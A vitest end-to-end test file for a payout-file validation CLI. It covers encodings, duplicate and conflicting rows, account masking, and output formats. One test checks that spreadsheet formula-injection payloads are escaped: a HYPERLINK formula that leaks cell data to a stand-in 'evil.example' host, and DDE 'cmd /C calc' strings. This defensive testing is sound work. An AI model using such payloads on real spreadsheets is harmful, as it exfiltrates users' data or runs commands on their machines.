import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { FULL_ACCOUNT_NUMBERS } from './fixtures/validate/accounts.ts';
import { ROOT, runCli, tempDir as makeTempDir, type CliResult } from './support/cli.ts';

/** End to end: the real `payout-batch validate` on payout files shaped like the ones operators bring. */

const made: string[] = [];
const tempDir = (): string => {
  const dir = makeTempDir('validate-e2e-');
  made.push(dir);
  return dir;
};
afterAll(() => {
  for (const dir of made) rmSync(dir, { recursive: true, force: true });
});

const validateFixture = (name: string) => join(ROOT, 'test', 'fixtures', 'validate', name);
const readFixture = (name: string) => join(ROOT, 'test', 'fixtures', 'read', name);

/** README, "Results": the columns, in this order. */
const RESULT_COLUMNS = [
  'row', 'order_id', 'provider', 'status', 'error_code', 'error_message', 'warning', 'amount', 'currency',
  'account', 'name', 'provider_id', 'provider_status', 'attempts', 'note', 'updated_at',
];

type ResultRecord = Record<string, string>;

interface Validated extends CliResult {
  out: string;
}

/** Runs validate into a fresh folder; `--json` unless the caller is testing the readable summary. */
async function validate(file: string, provider: string, extra: string[] = [], json = true): Promise<Validated> {
  const out = join(tempDir(), 'out');
  const result = await runCli(['validate', file, '--provider', provider, '--out', out, ...(json ? ['--json'] : []), ...extra]);
  return { ...result, out };
}

function resultsCsv(out: string): ResultRecord[] {
  return parse(readFileSync(join(out, 'results.csv')), { columns: true, bom: true }) as ResultRecord[];
}

const byOrder = (rows: ResultRecord[]) => rows.map((r) => `${r.row} ${r.order_id} ${r.status} ${r.error_code}`);

/** results.xlsx's headings in Spanish (the default --lang): RESULT_COLUMNS in words, and the amount as written. */
const XLSX_HEADINGS_ES = [
  'Fila', 'ID de orden', 'Proveedor', 'Estado', 'Código de error', 'Mensaje de error', 'Advertencia', 'Importe', 'Moneda', 'Cuenta',
  'Beneficiario', 'ID del proveedor', 'Estado en el proveedor', 'Intentos', 'Nota', 'Actualizado', 'Importe según el archivo',
];

/** Every cell of every sheet of results.xlsx, as exceljs reads it: the Results sheets' rows, and every cell. */
async function resultsXlsx(out: string): Promise<{ header: string[]; rows: ExcelJS.Row[]; cells: ExcelJS.Cell[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(join(out, 'results.xlsx'));
  const cells: ExcelJS.Cell[] = [];
  const rows: ExcelJS.Row[] = [];
  let header: string[] = [];
  workbook.eachSheet((sheet) => {
    if (sheet.name === 'Totales') {
      sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
      return;
    }
    sheet.eachRow((row, n) => {
      if (n === 1) header = (row.values as unknown[]).slice(1).map(String);
      else rows.push(row);
      row.eachCell((cell) => cells.push(cell));
    });
  });
  return { header, rows, cells };
}

/** One clear line on stderr: the `payout-batch:` prefix, no stack frames. */
function expectOneLine(stderr: string): void {
  const lines = stderr.trim().split('\n');
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^payout-batch: /);
  expect(stderr).not.toMatch(/\n\s+at /);
}

describe('payout-batch validate', { timeout: 60_000 }, () => {
  it('exits 0 when every row is valid; the JSON summary has counts per status and totals as strings and minor units', async () => {
    const result = await validate(validateFixture('openpay-all-valid.csv'), 'openpay', ['--format', 'csv']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    const summary = result.summary!;
    expect(summary).toMatchObject({
      command: 'validate',
      provider: 'openpay',
      out_dir: result.out,
      results_csv: join(result.out, 'results.csv'),
      counts: { valid: 3 },
      totals: [{ currency: 'MXN', status: 'valid', count: 3, amount: '1350.00', amount_minor: 135_000 }],
      warnings: [],
      exit_code: 0,
    });
    expect(summary.results_xlsx).toBeUndefined();
    expect(Date.parse(summary.started_at)).not.toBeNaN();
    expect(Date.parse(summary.finished_at)).toBeGreaterThanOrEqual(Date.parse(summary.started_at));
    // Exactly one line on stdout: a nightly job parses it as it is.
    expect(result.stdout.trim().split('\n')).toHaveLength(1);
  });

  it('reports valid, invalid, duplicate and late-conflict rows in results.csv (UTF-8 BOM input, documented columns), exit 2', async () => {
    const result = await validate(validateFixture('openpay-mixed.csv'), 'openpay', ['--format', 'csv']);
    expect(result.code).toBe(2);
    const bytes = readFileSync(join(result.out, 'results.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8').slice(1).split(/\r?\n/)[0]).toBe(RESULT_COLUMNS.join(','));

    const rows = resultsCsv(result.out);
    expect(byOrder(rows)).toEqual([
      '2 OP-1 valid ',
      '3 OP-2 valid ',
      '4 OP-3 valid ',
      '5 OP-4 valid ',
      '6 OP-5 invalid CLABE_CHECKSUM',
      '7 OP-6 invalid AMOUNT_FORMAT',
      '8 OP-1 duplicate DUPLICATE_ORDER_ID',
      // OP-7 is valid on row 9 and an identical repeat on row 10 when read; row 11 differs, so all three are conflicts.
      '9 OP-7 conflict CONFLICTING_ORDER_ID',
      '10 OP-7 conflict CONFLICTING_ORDER_ID',
      '11 OP-7 conflict CONFLICTING_ORDER_ID',
    ]);
    expect(rows[0]).toMatchObject({ provider: 'openpay', amount: '1250.00', currency: 'MXN', account: '012***********7198', name: 'José Peña Núñez' });
    expect(rows.slice(7).map((r) => r.amount)).toEqual(['50.00', '50.00', '75.00']);

    expect(result.summary!.counts).toEqual({ valid: 4, invalid: 2, duplicate: 1, conflict: 3 });
    expect(result.summary!.totals).toEqual([
      { currency: 'MXN', status: 'valid', count: 4, amount: '1850.00', amount_minor: 185_000 },
      { currency: 'MXN', status: 'duplicate', count: 1, amount: '1250.00', amount_minor: 125_000 },
      { currency: 'MXN', status: 'conflict', count: 3, amount: '175.00', amount_minor: 17_500 },
    ]);
  });

  it('writes formula-looking names with a leading quote in CSV and as plain text, never a formula, in XLSX', async () => {
    const result = await validate(validateFixture('openpay-mixed.csv'), 'openpay', ['--format', 'both']);
    expect(result.code).toBe(2);
    const names = resultsCsv(result.out).slice(1, 4).map((r) => r.name);
    expect(names).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Cobrar")`,
      `'+cmd|' /C calc'!A0`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
    ]);

    const { header, rows, cells } = await resultsXlsx(result.out);
    expect(header).toEqual(XLSX_HEADINGS_ES);
    const nameColumn = RESULT_COLUMNS.indexOf('name') + 1;
    const xlsxNames = rows.slice(1, 4).map((row) => row.getCell(nameColumn));
    expect(xlsxNames.map((cell) => cell.value)).toEqual(names);
    for (const cell of xlsxNames) expect(cell.type).toBe(ExcelJS.ValueType.String);
    // Nothing in the workbook is a formula, whatever the input held.
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)).toEqual([]);
  });

  it('reads Windows-1252 with ";" and ARS decimal commas (Zenrise); names come out right in UTF-8', async () => {
    const result = await validate(validateFixture('zenrise-windows-1252.csv'), 'zenrise', ['--format', 'csv']);
    expect(result.code).toBe(0);
    const rows = resultsCsv(result.out);
    expect(rows.map((r) => [r.order_id, r.status, r.amount, r.currency, r.account, r.name])).toEqual([
      ['ZW-001', 'valid', '1250.50', 'ARS', '285***************2016', 'José Peña Núñez'],
      ['ZW-002', 'valid', '3400.05', 'ARS', '000***************0427', 'María Fernanda Güemes'],
      ['ZW-003', 'valid', '18999.99', 'ARS', 'ruben.monitor.po', 'Ñandú Ibáñez'],
    ]);
    // The bytes are UTF-8, not the input's 1252 passed through.
    expect(readFileSync(join(result.out, 'results.csv')).includes(Buffer.from('Ñandú Ibáñez', 'utf8'))).toBe(true);
    expect(result.summary!.totals).toEqual([{ currency: 'ARS', status: 'valid', count: 3, amount: '23650.54', amount_minor: 2_365_054 }]);
  });

  it('rejects Mexican-provider amounts in the Argentine style even from a Windows-1252 file, and still decodes the names', async () => {
    const result = await validate(readFixture('latin1-semicolon.csv'), 'openpay', ['--format', 'csv']);
    expect(result.code).toBe(2);
    const rows = resultsCsv(result.out);
    expect(rows.map((r) => [r.status, r.error_code, r.name])).toEqual([
      ['invalid', 'AMOUNT_FORMAT', 'José Peña Núñez'],
      ['invalid', 'AMOUNT_FORMAT', 'María Fernanda López'],
      ['invalid', 'AMOUNT_FORMAT', 'Ñandú Ibáñez Güemes'],
    ]);
  });

  it('reads Excel "Unicode text" (UTF-16LE, tab-delimited, .txt) with Spanish headers', async () => {
    const result = await validate(readFixture('excel-unicode-text.txt'), 'openpay', ['--format', 'csv']);
    expect(result.code).toBe(0);
    expect(resultsCsv(result.out).map((r) => [r.order_id, r.status, r.amount, r.name])).toEqual([
      ['U-1', 'valid', '1250.00', 'José Peña Núñez'],
      ['U-2', 'valid', '300.00', 'María López'],
    ]);
  });

  it('rejects XLSX account cells stored as numbers with ACCOUNT_PRECISION_LOST; the row stays invalid, exit 2', async () => {
    const result = await validate(validateFixture('conekta-clabe-as-number.xlsx'), 'conekta', ['--format', 'both']);
    expect(result.code).toBe(2);
    const rows = resultsCsv(result.out);
    expect(byOrder(rows)).toEqual([
      '2 XN-1 valid ',
      '3 XN-2 invalid ACCOUNT_PRECISION_LOST',
      '4 XN-3 invalid ACCOUNT_PRECISION_LOST',
      '5 XN-4 valid ',
    ]);
    expect(rows[0]).toMatchObject({ amount: '1250.50', name: 'José Peña Núñez' });
    // A formula-looking string cell in the input stays text in both outputs.
    expect(rows[3]!.name).toBe(`'=HYPERLINK("http://evil.example","Cobrar")`);
    const { rows: xlsxRows, cells } = await resultsXlsx(result.out);
    const statusColumn = RESULT_COLUMNS.indexOf('status') + 1;
    expect(xlsxRows.map((row) => row.getCell(statusColumn).value)).toEqual(['válido', 'inválido', 'inválido', 'válido']);
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(result.summary!.counts).toEqual({ valid: 2, invalid: 2 });
  });

  it('reads the first visible sheet by default and another with --sheet; an unknown sheet is exit 1 naming the sheets', async () => {
    const first = await validate(readFixture('shared-strings.xlsx'), 'openpay', ['--format', 'csv']);
    expect(first.code).toBe(0);
    const rows = resultsCsv(first.out);
    expect(rows).toHaveLength(30);
    expect(rows[0]).toMatchObject({ row: '2', order_id: 'SS-001', status: 'valid', name: 'José Peña Núñez', amount: '1.00' });

    const second = await validate(readFixture('shared-strings.xlsx'), 'zenrise', ['--format', 'csv', '--sheet', 'Reintegros']);
    expect(second.code).toBe(0);
    expect(resultsCsv(second.out).map((r) => [r.order_id, r.provider, r.amount, r.currency])).toEqual([['RI-1', 'zenrise', '10.00', 'ARS']]);

    const missing = await validate(readFixture('shared-strings.xlsx'), 'openpay', ['--sheet', 'Nómina']);
    expect(missing.code).toBe(1);
    expectOneLine(missing.stderr);
    expect(missing.stderr).toContain('"Reintegros"');
    expect(existsSync(missing.out)).toBe(false);
  });

  it('--map names columns the aliases do not catch; without it the run stops (exit 1) listing the headers found', async () => {
    const mapped = await validate(readFixture('map-override.csv'), 'openpay', ['--format', 'csv', '--map', 'order_id=Folio', '--map', 'amount=Monto Total']);
    expect(mapped.code).toBe(0);
    expect(resultsCsv(mapped.out).map((r) => [r.order_id, r.status, r.amount])).toEqual([['M-1', 'valid', '100.00']]);

    const unmapped = await validate(readFixture('map-override.csv'), 'openpay');
    expect(unmapped.code).toBe(1);
    expectOneLine(unmapped.stderr);
    expect(unmapped.stderr).toContain('"Monto Total"');
    expect(existsSync(unmapped.out)).toBe(false);
  });

  it('routes rows by a provider column: each provider\'s rules and currency, one key across providers, unknown names invalid', async () => {
    const result = await validate(validateFixture('providers-column.csv'), 'openpay', ['--format', 'csv']);
    expect(result.code).toBe(2);
    expect(resultsCsv(result.out).map((r) => [r.order_id, r.provider, r.status, r.error_code, r.amount, r.currency, r.account])).toEqual([
      // The same order_id routed to another provider with another amount and account: one key, so both conflict.
      ['PC-1', 'openpay', 'conflict', 'CONFLICTING_ORDER_ID', '100.00', 'MXN', '012***********7198'],
      ['PC-1', 'conekta', 'conflict', 'CONFLICTING_ORDER_ID', '200.00', 'MXN', '002***********7896'],
      ['PC-3', 'digitalfemsa', 'valid', '', '300.00', 'MXN', 'l***@example.com'],
      ['PC-4', 'zenrise', 'valid', '', '1500.50', 'ARS', '017***************8120'],
      // An empty provider cell takes --provider.
      ['PC-5', 'openpay', 'valid', '', '50.00', 'MXN', '646***********5624'],
      ['PC-6', 'mercadopago', 'invalid', 'PROVIDER_UNKNOWN', '60.00', 'MXN', '014***********3453'],
    ]);
    expect(result.summary!.totals).toEqual([
      { currency: 'ARS', status: 'valid', count: 1, amount: '1500.50', amount_minor: 150_050 },
      { currency: 'MXN', status: 'valid', count: 2, amount: '350.00', amount_minor: 35_000 },
      { currency: 'MXN', status: 'conflict', count: 2, amount: '300.00', amount_minor: 30_000 },
    ]);
  });

  it.each<[string, string[]]>([
    ['csv', ['results.csv']],
    ['xlsx', ['results.xlsx']],
    ['both', ['results.csv', 'results.xlsx']],
  ])('--format %s writes exactly %j', async (format, files) => {
    const result = await validate(validateFixture('openpay-all-valid.csv'), 'openpay', ['--format', format]);
    expect(result.code).toBe(0);
    expect(readdirSync(result.out).sort()).toEqual(files);
    expect(result.summary!.results_csv).toBe(files.includes('results.csv') ? join(result.out, 'results.csv') : undefined);
    expect(result.summary!.results_xlsx).toBe(files.includes('results.xlsx') ? join(result.out, 'results.xlsx') : undefined);
    if (format !== 'csv') {
      const { header, rows } = await resultsXlsx(result.out);
      expect(header).toEqual(XLSX_HEADINGS_ES);
      expect(rows.map((row) => row.getCell(2).value)).toEqual(['AV-1', 'AV-2', 'AV-3']);
    }
  });

  it('prints a readable summary without --json that names the results files', async () => {
    const result = await validate(validateFixture('openpay-mixed.csv'), 'openpay', ['--format', 'both'], false);
    expect(result.code).toBe(2);
    expect(result.summary).toBeUndefined();
    expect(result.stdout).toContain(join(result.out, 'results.csv'));
    expect(result.stdout).toContain(join(result.out, 'results.xlsx'));
    expect(result.stdout).toMatch(/^conflict\s+3$/m);
    expect(result.stdout).toMatch(/MXN 1,850\.00/);
  });

  it('never writes a full CLABE, CBU or CVU to results.csv, results.xlsx, stdout or stderr', async () => {
    const runs = await Promise.all([
      validate(validateFixture('openpay-mixed.csv'), 'openpay', ['--format', 'both']),
      validate(validateFixture('providers-column.csv'), 'openpay', ['--format', 'both']),
      validate(validateFixture('zenrise-windows-1252.csv'), 'zenrise', ['--format', 'both']),
      // The same accounts offered to the wrong provider: masked in the error messages too.
      validate(validateFixture('zenrise-windows-1252.csv'), 'openpay', ['--format', 'both']),
      validate(validateFixture('conekta-clabe-as-number.xlsx'), 'conekta', ['--format', 'both']),
      validate(validateFixture('openpay-mixed.csv'), 'openpay', ['--format', 'both'], false),
    ]);
    for (const run of runs) {
      expect(run.code).not.toBe(1);
      const csv = readFileSync(join(run.out, 'results.csv'), 'utf8');
      const xlsx = (await resultsXlsx(run.out)).cells.map((cell) => String(cell.value)).join('\n');
      for (const [where, text] of Object.entries({ csv, xlsx, stdout: run.stdout, stderr: run.stderr })) {
        for (const number of FULL_ACCOUNT_NUMBERS) expect(text.includes(number), `${number} in ${where} of ${run.out}`).toBe(false);
        // Nor what Excel kept of one (2180001234567896: 002180001234567896 as a number) or any long digit run.
        if (where === 'csv' || where === 'xlsx') expect(text).not.toMatch(/\d{8,}/);
      }
    }
  });

  it('reads CSV content named .xlsx by its content, with a warning', async () => {
    const result = await validate(readFixture('csv-named.xlsx'), 'openpay', ['--format', 'csv']);
    expect(result.code).toBe(0);
    expect(result.summary!.warnings).toHaveLength(1);
    expect(result.summary!.warnings[0]).toContain('csv-named.xlsx');
    expect(resultsCsv(result.out).map((r) => [r.order_id, r.status, r.name])).toEqual([['X-1', 'valid', 'José Peña Núñez']]);
  });

  it.each([
    ['binary junk named .csv', readFixture('binary-junk.csv'), 'binary-junk.csv'],
    ['an empty file', readFixture('empty.csv'), 'empty.csv'],
    ['a bank statement (wrong headers)', readFixture('wrong-headers.csv'), '"Fecha"'],
    ['an unclosed quote', readFixture('unclosed-quote.csv'), 'row 4'],
    ['a truncated .xlsx', readFixture('truncated.xlsx'), 'truncated.xlsx'],
    ['a file that does not exist', join(ROOT, 'test', 'fixtures', 'validate', 'no-such-file.csv'), 'no-such-file.csv'],
  ])('stops on %s: exit 1, one clear line on stderr, one JSON error on stdout, no output folder left behind', async (_, file, context) => {
    const result = await validate(file, 'openpay');
    expect(result.code).toBe(1);
    expectOneLine(result.stderr);
    expect(result.stderr).toContain(context);
    // --json: exactly one object on stdout, also when nothing could be done.
    expect(result.stdout.trim().split('\n')).toHaveLength(1);
    expect(result.summary).toMatchObject({ exit_code: 1, error: { code: expect.stringMatching(/^(FILE_|COLUMNS_)/) } });
    expect(existsSync(result.out)).toBe(false);
  });

  // Regression: a file that failed part-way (rows already written) used to leave its folder with results.csv.partial.
  it('removes the partial results of a file that fails part-way, and keeps a folder it did not make', async () => {
    const dir = tempDir();
    const file = join(dir, 'late-quote.csv');
    const lines = ['order_id,clabe,nombre,monto'];
    for (let i = 0; i < 3000; i++) lines.push(`LQ-${i},012180001183597198,Persona ${i},${i + 1}.00`);
    lines.push('LQ-x,012180001183597198,"Peña, José,1.00', 'LQ-y,012180001183597198,Ana,2.00');
    writeFileSync(file, lines.join('\n'));

    const fresh = await validate(file, 'openpay');
    expect(fresh.code).toBe(1);
    expectOneLine(fresh.stderr);
    expect(fresh.stderr).toContain('row 3002');
    expect(existsSync(fresh.out)).toBe(false);

    const existing = join(dir, 'existing');
    mkdirSync(existing);
    const kept = await runCli(['validate', file, '--provider', 'openpay', '--out', existing, '--json']);
    expect(kept.code).toBe(1);
    expect(readdirSync(existing)).toEqual([]);
  });

  it('refuses an unknown --provider as a usage error (exit 64) in one line naming the choices', async () => {
    const result = await validate(validateFixture('openpay-all-valid.csv'), 'mercadopago');
    expect(result.code).toBe(64);
    expect(result.summary).toMatchObject({ exit_code: 64, error: { code: 'USAGE' } });
    expectOneLine(result.stderr);
    expect(result.stderr).toContain('mercadopago');
    expect(result.stderr).toMatch(/openpay.*conekta.*digitalfemsa.*zenrise/);
    expect(existsSync(result.out)).toBe(false);
  });

  it('refuses an --out that is a file in one line, and shows the underlying stack only with --debug', async () => {
    const dir = tempDir();
    const notADir = join(dir, 'taken');
    writeFileSync(notADir, 'a file where the output folder should go');
    const args = ['validate', validateFixture('openpay-all-valid.csv'), '--provider', 'openpay', '--out', notADir];
    const plain = await runCli(args);
    expect(plain.code).toBe(64); // a bad option value
    expectOneLine(plain.stderr);
    expect(plain.stderr).toContain('--out');
    expect(plain.stderr).not.toMatch(/\n\s+at /);
    const debug = await runCli([...args, '--debug']);
    expect(debug.code).toBe(64);
    expect(debug.stderr).toMatch(/\n\s+at /);
  });
});
